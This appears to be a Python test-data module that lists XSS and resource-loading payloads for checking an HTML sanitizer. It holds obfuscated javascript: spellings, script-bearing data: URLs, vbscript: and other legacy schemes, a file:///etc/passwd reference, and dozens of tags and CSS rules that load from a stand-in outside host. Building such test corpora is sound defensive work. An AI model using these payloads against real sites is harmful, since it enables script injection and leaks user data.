"""Payloads that are addresses: javascript:, data: and vbscript: in many spellings; and loads from elsewhere."""

from __future__ import annotations

from .payload import HERE, clicked, elsewhere, raw, within

LINK = f'<a href="{HERE}">go</a>'

SPELLINGS = within(
    LINK,
    "javascript:RUN",
    "JaVaScRiPt:RUN",
    "  javascript:RUN",
    "\x01javascript:RUN",
    "\x1f\x0cjavascript:RUN",
    "java\tscript:RUN",
    "java\nscript:RUN",
    "java\r\nscript:RUN",
    "javascript\t:RUN",
    "j\na\nv\na\ns\nc\nr\ni\np\nt:RUN",
    "&#106;avascript:RUN",
    "&#x6A&#x61vascript:RUN",
    "&#0000106avascript:RUN",
    "&#1;javascript:RUN",
    "javascript&colon;RUN",
    "java&Tab;script:RUN",
    "java&NewLine;script:RUN",
    "javascript:%72an(NUMBER)",
    "javascript:\\u0072an(NUMBER)",
    "javascript://example.org/%0aRUN",
    "javascript://https://example.org/%0dRUN",
    "javascript:/*http://example.org/*/RUN",
    "javascript:void(RUN)",
    "javascript:'<script>RUN</script>'",
    "javascript:'<svg onload=RUN>'",
    "javascript:RUN;//http://example.org/",
    click=True,
)

DOCUMENTS = within(
    f'<iframe src="{HERE}"></iframe>',
    "data:text/html,<script>RUN</script>",
    "data:text/html;charset=utf-8,%3Cscript%3ERUN%3C/script%3E",
    "DaTa:TeXt/HtMl,<svg onload=RUN>",
    "da\tta:text/html,<svg onload=RUN>",
    "data:text/html;x=y,<svg onload=RUN>",
    "data:application/xhtml+xml,<script xmlns='http://www.w3.org/1999/xhtml'>RUN</script>",
    "data:text/xml,<script xmlns='http://www.w3.org/1999/xhtml'>RUN</script>",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><script>RUN</script></svg>",
)

OTHER_SCHEMES = elsewhere(
    "vbscript:msgbox(NUMBER)",
    "VbScRiPt:execute(NUMBER)",
    "livescript:RUN",
    "mocha:RUN",
    "feed:javascript:RUN",
    "view-source:javascript:RUN",
    "jar:http:AWAY!/x",
    "file:///etc/passwd?NUMBER",
    "blob:http:AWAY",
    "ms-its:mhtml:http:AWAY",
)

IMAGES = raw(
    "<img src=AWAY>",
    "<img src=http:AWAY>",
    "<img src='\\\\AWAY'>",
    "<img srcset='AWAY 1x'>",
    "<picture><source srcset=AWAY><img></picture>",
    "<input type=image src=AWAY>",
    "<body background=AWAY>",
    "<table background=AWAY><td>x</table>",
    "<table><td background=AWAY>x</table>",
    "<svg><image href=AWAY></svg>",
    "<svg><image xlink:href=AWAY></svg>",
    "<video poster=AWAY></video>",
    "<video src=AWAY></video>",
    "<video><source src=AWAY></video>",
    "<audio src=AWAY></audio>",
)

FILES = raw(
    "<script src=AWAY></script>",
    "<script type=module>import'AWAY'</script>",
    "<iframe src=AWAY></iframe>",
    "<iframe srcdoc='<img src=AWAY>'></iframe>",
    "<object data=AWAY></object>",
    "<embed src=AWAY>",
    "<base href=AWAY/><img src=x>",
    "<link rel=stylesheet href=AWAY>",
    "<link rel='alternate stylesheet' title=x href=AWAY>",
    "<link rel=prefetch href=AWAY>",
    "<link rel=preload as=image href=AWAY>",
    "<link rel=preload as=image imagesrcset=AWAY>",
    "<link rel=modulepreload href=AWAY>",
    "<meta http-equiv=refresh content=0;url=AWAY>",
    "<meta http-equiv='refresh' content='0;  URL = AWAY'>",
)

STYLES = raw(
    "<style>@import'AWAY'</style>",
    "<style>@import url(AWAY)</style>",
    "<style>body{background:url(AWAY)}</style>",
    "<style>@font-face{font-family:f;src:url(AWAY)}p{font-family:f}</style><p>x",
    "<p style='background:url(AWAY)'>x",
    "<p style='background:u\\72l(AWAY)'>x",
    "<p style='background:url(\"AWAY\")'>x",
    "<p style='background:image-set(\"AWAY\" 1x)'>x",
    "<li style='list-style:url(AWAY)'>x",
    "<p style='border:1px solid;border-image:url(AWAY) 1'>x",
    "<p style='mask-image:url(AWAY)'>x",
    "<style>p::before{content:url(AWAY)}</style><p>x",
    "<svg><style>@import'AWAY'</style></svg>",
)

LEAVING = clicked(
    "<a href=AWAY>go</a>",
    "<form action=AWAY><button>go</button></form>",
    "<form><button formaction=AWAY>go</button></form>",
)

UNSEEN = elsewhere(
    "<link rel=preconnect href=AWAY>",
    "<link rel=dns-prefetch href=AWAY>",
    "<a href=x ping=AWAY>go</a>",
    "<link rel=manifest href=AWAY>",
    "<link rel=icon href=AWAY>",
    "<video src=data:, ><track default src=AWAY></video>",
    "<link rel=apple-touch-icon href=AWAY>",
    "<html manifest=AWAY>",
    "<link rel=prerender href=AWAY>",
    "<applet code=AWAY></applet>",
    "<img lowsrc=AWAY>",
)

LOADS = [*IMAGES, *FILES, *STYLES, *LEAVING, *UNSEEN]
PAYLOADS = [*SPELLINGS, *DOCUMENTS, *OTHER_SCHEMES, *LOADS]
